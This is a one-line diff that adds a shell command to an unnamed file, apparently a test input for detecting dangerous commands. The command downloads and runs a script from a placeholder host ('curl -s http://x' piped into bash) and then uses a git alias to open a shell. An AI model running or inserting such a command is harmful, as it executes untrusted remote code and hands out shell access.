@@ -1,0 +1,1 @@
+bash <(curl -s http://x) ; git -c alias.x='!sh' x
